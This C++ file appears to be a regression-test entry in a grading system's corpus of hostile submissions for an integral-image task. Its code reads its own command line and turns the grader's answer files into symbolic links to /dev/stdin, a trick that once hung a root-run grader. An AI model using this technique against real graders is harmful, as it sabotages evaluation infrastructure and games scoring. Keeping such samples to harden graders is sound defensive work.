// CORPUS answer_symlink_to_stdin — at its first call, finds its answers folder on its command
// line and makes every answer it will hand in a symbolic link to /dev/stdin, then answers
// correctly (the runner's writes follow the links into its own stdin). The grader used to open
// answers as they are, outside the sandbox, as root: it followed the link into its own stdin, a
// pipe, and waited there for the rest of the class run. It now opens answers without following
// links and only as regular files: every case fails, saying so, and the run goes on.
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "integral_image.hpp"

namespace integral_image {
namespace {

void link_answers_to_stdin() {
    static bool done = false;
    if (done) return;
    done = true;
    std::ifstream in("/proc/self/cmdline", std::ios::binary);
    const std::string all((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    std::vector<std::string> args;
    for (std::size_t at = 0; at < all.size();) {
        const std::size_t end = all.find('\0', at);
        args.push_back(all.substr(at, end - at));
        at = end == std::string::npos ? all.size() : end + 1;
    }
    constexpr int kAnswers = 200;
    for (std::size_t i = 0; i + 1 < args.size(); ++i) {
        if (args[i] != "--answers") continue;
        for (int k = 0; k < kAnswers; ++k) {
            char name[32];
            std::snprintf(name, sizeof name, "/%06d.out", k);
            ::symlink("/dev/stdin", (args[i + 1] + name).c_str());
        }
    }
}

}  // namespace

void cpu_openmp(Input in, Output out, int) {
    link_answers_to_stdin();
    for (int y = 0; y < in.height; ++y) {
        std::uint32_t row = 0;
        for (int x = 0; x < in.width; ++x) {
            row += in.row(y)[x];
            out.row(y)[x] = row + (y > 0 ? out.row(y - 1)[x] : 0u);
        }
    }
}

}  // namespace integral_image
